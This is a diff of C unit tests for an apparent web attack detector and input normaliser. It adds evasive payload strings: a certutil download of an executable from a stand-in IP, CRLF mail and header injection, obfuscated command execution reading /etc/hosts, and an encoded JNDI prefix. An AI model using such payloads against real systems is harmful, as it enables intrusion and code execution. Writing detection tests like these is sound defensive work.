@@ -30,6 +30,9 @@ Test(normalise, overlong_utf8_html_plus_nul_case)
                      "<img src=x onerror=alert(1)>");
     cr_assert_str_eq(norm("&#0000060;b&#62", FK_NORM_HTML), "<b>",
                      "padded and unterminated references");
+    cr_assert_str_eq(norm("&#x24;&#000000000000000000000000123;jndi", FK_NORM_HTML), "${jndi",
+                     "any number of leading zeros");
+    cr_assert_str_eq(norm("&#99999999;", FK_NORM_HTML), "&#99999999;", "out of range: kept");
     cr_assert_str_eq(norm("a+b", FK_NORM_URL | FK_NORM_PLUS), "a b");
     cr_assert_str_eq(norm("a+b", FK_NORM_URL), "a+b", "'+' is literal in paths");
     cr_assert_str_eq(norm("a%00b", FK_NORM_URL | FK_NORM_NUL), "ab");
@@ -207,7 +210,14 @@ Test(websig, evasions_and_less_common_vectors)
     FIRES("lfi", "/read", "f=/home/u/.ssh/id_rsa", NULL);
     FIRES("protocol", "/", "x=GET+http://198.51.100.9/+HTTP/1.1", NULL);
     FIRES("protocol", "/api/item/3", "_method=DELETE", NULL);
+    FIRES("rce", "/", "u=;certutil+-urlcache+-f+http://198.51.100.9/a.exe+a.exe", NULL);
+    FIRES("rce", "/", "to=x%0d%0aRCPT%20TO:%3Cvictim@example.jp%3E", NULL);
+    FIRES("rce", "/", "x=pi%60%60ng+198.51.100.9", NULL);
+    FIRES("rce", "/", "x={,cat,/etc/hosts,}", NULL);
+    FIRES("protocol", "/", "a=1&%0d%0aX-Forwarded-For:+127.0.0.1=1", NULL);
+    FIRES("protocol", "/", "a=%01b", NULL);
     /* near misses that must stay quiet */
+    QUIET("/contact", "msg=Hello.%0D%0AThe+shop+opens+at+ten.", NULL); /* textarea */
     QUIET("/p", "a=11!=11", NULL); /* equal numbers: not a tautology */
     QUIET("/p", "v=3.2.1&build=2024", NULL);
     QUIET("/forum", "q=if+you+like+it", NULL);
